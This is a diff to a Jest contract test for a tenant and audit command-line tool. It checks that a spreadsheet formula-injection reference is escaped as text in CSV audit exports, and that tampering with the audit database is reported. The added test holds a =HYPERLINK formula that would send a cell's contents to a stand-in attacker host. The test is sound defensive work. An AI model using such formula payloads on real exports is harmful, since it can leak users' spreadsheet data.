@@ -123,6 +123,16 @@ describe('tenants, keys, usage and audit on the command line (contract)', () => 
       ).toEqual(['tenant.create', 'key.create', 'tenant.create', 'user.create', 'allow', 'error']);
       const none = await run(['audit', 'export', '--config', 'jugwon.yaml', '--to', '2000-01-01'], dir);
       expect(none.stdout).toBe('');
+      // A reference that a spreadsheet would run as a formula is exported as text.
+      const reference = '=HYPERLINK("http://evil.example/?"&A1,"열기")';
+      const found = await run(
+        ['subject', 'find', '010-1234-5678', '--config', 'jugwon.yaml', '--reference', reference],
+        dir,
+      );
+      expect(found.code).toBe(0);
+      const csvAgain = await run(['audit', 'export', '--config', 'jugwon.yaml', '--format', 'csv'], dir);
+      expect(csvAgain.stdout).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""열기"");`);
+      expect(csvAgain.stdout).not.toMatch(/(^|,)"?=HYPERLINK/m);
       // Tampering is named, with a non-zero exit.
       const db = new BetterSqlite3(join(dir, 'data', 'jugwon.db'));
       db.prepare(`UPDATE audit_log SET record = replace(record, '"acme"', '"evil"') WHERE seq = 5`).run();
